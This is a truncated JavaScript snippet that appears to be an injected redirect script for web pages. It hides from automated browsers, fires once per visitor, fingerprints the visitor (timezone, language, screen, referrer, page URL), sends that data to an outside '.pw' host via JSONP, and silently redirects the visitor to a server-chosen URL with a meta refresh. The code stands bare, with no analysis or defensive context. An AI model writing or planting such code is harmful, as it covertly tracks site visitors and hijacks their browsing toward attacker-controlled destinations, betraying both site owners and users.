var d = document, n = navigator, w = window;
(function () {
  if (n.webdriver) return;
  try {
    if (w.localStorage.getItem('_rv')) return;
    w.localStorage.setItem('_rv', '1');
  } catch (e) {}

  var tz = '';
  try { tz = Intl.DateTimeFormat().resolvedOptions().timeZone; } catch (e) {}

  var params = {
    tz: tz,
    ln: n.language,
    sc: screen.width + 'x' + screen.height,
    tp: n.maxTouchPoints || 0,
    rf: d.referrer,
    pg: location.href
  };

  var fn = 'jsonp_' + Math.random().toString(36).slice(2);
  w[fn] = function (o) {
    if (o && o.url) {
      var m = d.createElement('meta');
      m.httpEquiv = 'refresh';
      m.content = '0; url=' + o.url;
      d.head.appendChild(m);
    }
  };

  var parts = [];
  for (var k in params) parts.push(k + '=' + encodeURIComponent(params[k]));
  var sc = d.createElement('script');
  sc.src = 'https://api.linkrotator-cdn.pw/jp?' + parts.join('&') + '&callback=' + fn;
  sc.onload = function () { sc.remove(
